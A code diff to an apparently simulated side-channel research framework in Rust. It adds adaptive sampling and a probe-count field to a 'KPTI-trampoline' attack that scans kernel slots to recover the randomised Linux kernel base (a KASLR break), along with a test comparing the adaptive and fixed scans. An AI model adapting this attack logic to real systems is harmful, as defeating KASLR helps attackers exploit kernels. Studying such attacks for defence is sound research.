@@ -10,6 +10,7 @@
 use avx_mmu::VirtAddr;
 use avx_os::linux::{KASLR_ALIGN, KERNEL_SLOTS};
 
+use crate::adaptive::AdaptiveSampler;
 use crate::calibrate::Threshold;
 use crate::primitives::PageTableAttack;
 use crate::prober::Prober;
@@ -30,6 +31,8 @@ pub struct KptiScan {
     pub probing_cycles: u64,
     /// Total cycles.
     pub total_cycles: u64,
+    /// Raw probes the sweep issued (warm-ups included).
+    pub probes: u64,
 }
 
 /// The KPTI-trampoline attack.
@@ -50,6 +53,20 @@ impl KptiAttack {
         }
     }
 
+    /// Routes the sweep through the adaptive sequential engine.
+    #[must_use]
+    pub fn with_adaptive(mut self, sampler: AdaptiveSampler) -> Self {
+        self.attack = self.attack.with_adaptive(sampler);
+        self
+    }
+
+    /// Overrides the fixed probe strategy (default: second-of-two).
+    #[must_use]
+    pub fn with_strategy(mut self, strategy: crate::prober::ProbeStrategy) -> Self {
+        self.attack.strategy = strategy;
+        self
+    }
+
     /// Scans the kernel region and derives the base from the first
     /// mapped slot. The candidates are fed through the batched probe
     /// pipeline.
@@ -58,10 +75,10 @@ impl KptiAttack {
         let total_before = p.total_cycles();
         let range = super::kaslr::KernelBaseFinder::candidate_range();
         let start = range.start;
-        let samples = self.attack.measure_addrs(p, &range.to_vec());
+        let sweep = self.attack.sweep(p, &range.to_vec());
         p.spend(KERNEL_SLOTS * PER_SLOT_OVERHEAD_CYCLES);
-        let mapped = self.attack.classify(&samples);
-        let mapped_slots: Vec<u64> = mapped
+        let mapped_slots: Vec<u64> = sweep
+            .mapped
             .iter()
             .enumerate()
             .filter(|(_, &m)| m)
@@ -78,6 +95,7 @@ impl KptiAttack {
             base,
             probing_cycles: p.probing_cycles() - probing_before,
             total_cycles: p.total_cycles() - total_before,
+            probes: sweep.probes,
         }
     }
 }
@@ -134,6 +152,20 @@ mod tests {
         let scan = attack.scan(&mut p);
         assert_eq!(scan.mapped_slots.len(), 1, "KPTI leaves one visible slot");
         assert_eq!(scan.trampoline, truth.trampoline);
+    }
+
+    #[test]
+    fn adaptive_kpti_scan_matches_fixed_with_fewer_probes() {
+        use crate::adaptive::AdaptiveSampler;
+        let (mut p, truth) = kpti_prober(7, None);
+        let th = Threshold::calibrate(&mut p, truth.user.calibration, 8);
+        let fixed = KptiAttack::new(th, KPTI_TRAMPOLINE_OFFSET).scan(&mut p);
+        let adaptive = KptiAttack::new(th, KPTI_TRAMPOLINE_OFFSET)
+            .with_adaptive(AdaptiveSampler::from_threshold(&th, 1.0))
+            .scan(&mut p);
+        assert_eq!(adaptive.base, Some(truth.kernel_base));
+        assert_eq!(adaptive.mapped_slots, fixed.mapped_slots);
+        assert!(adaptive.probes > 0 && fixed.probes > 0);
     }
 
     #[test]
